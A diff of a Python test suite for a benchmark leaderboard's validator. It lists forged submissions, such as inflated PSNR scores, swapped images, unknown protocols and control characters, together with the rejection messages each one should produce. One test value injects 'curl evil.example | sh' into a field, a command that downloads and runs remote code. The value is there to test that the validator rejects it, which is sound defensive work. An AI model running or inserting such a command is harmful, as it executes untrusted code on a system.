@@ -200,7 +200,7 @@ FORGERIES = {
     ),
     "one dB more than the true images have": (
         lambda f: f.score(lambda value: value + 1.0),
-        "whose image has",
+        "as its image has",
     ),
     "999 dB": (lambda f: f.score(lambda _: 999.0), "psnr that cannot be: 999"),
     "negative PSNR": (lambda f: f.score(lambda _: -1.0), "psnr that cannot be: -1"),
@@ -214,7 +214,10 @@ FORGERIES = {
         lambda f: f.runs[0]["record"]["aggregates"]["macro"].update(psnr=40.0),
         "the means are not those of the views",
     ),
-    "photos as predictions": (photos_as_predictions, "whose image has inf"),
+    "photos as predictions": (
+        photos_as_predictions,
+        "expected a prediction of '0/0.png', found its photo",
+    ),
     # Views, periods, seeds
     "the easiest views": (
         lambda f: f.drop("0/2.png", "1/2.png"),
@@ -315,13 +318,25 @@ FORGERIES = {
         lambda f: f.set(variant="a=1; curl evil.example | sh"),
         "variant is no list of options",
     ),
+    "a protocol of its own": (lambda f: f.set(protocol="best"), "unknown protocol: 'best'"),
+    "a protocol of another format": (
+        lambda f: f.set(protocol="wat", max_width=1 << 16),
+        "found protocol wat, which is for scenes in the format wat, and ",
+    ),
+    "a protocol with another width": (
+        lambda f: f.set(protocol="wat"),
+        "another strategy or width than protocol wat has",
+    ),
     "a strategy of its own": (lambda f: f.set(strategy="best"), "unknown strategy: best"),
     "device from right to left": (lambda f: f.set(device="cpu \u202e(x)"), "control characters"),
     "markup": (lambda f: f.set(commit="<b>"), "a text with markup"),
     "it says that it is verified": (lambda f: f.document.update(verified=True), "Extra inputs"),
     # Files
     "an image changed": (change_image, "another file"),
-    "an image changed, hashes as well": (lambda f: (change_image(f), f.adopt()), "whose image has"),
+    "an image changed, hashes as well": (
+        lambda f: (change_image(f), f.adopt()),
+        "as its image has",
+    ),
     "an image of another size": (
         lambda f: replace_image(f, encode_png(np.zeros((6, 8, 3), np.uint8))),
         "an image of another size",
@@ -448,7 +463,7 @@ def test_forged_truth_helps_nobody(honest, tmp_path):
     rescore(tmp_path / "runs", make_scorers(["psnr", "ssim"]))
     submit([run], tmp_path / "entries")
     board = read_board(tmp_path / "entries", [honest / "yard"])
-    assert not board.standings and "whose image has" in board.notices[0]
+    assert not board.standings and "as its image has" in board.notices[0]
 
 
 def hash_of(run, image):
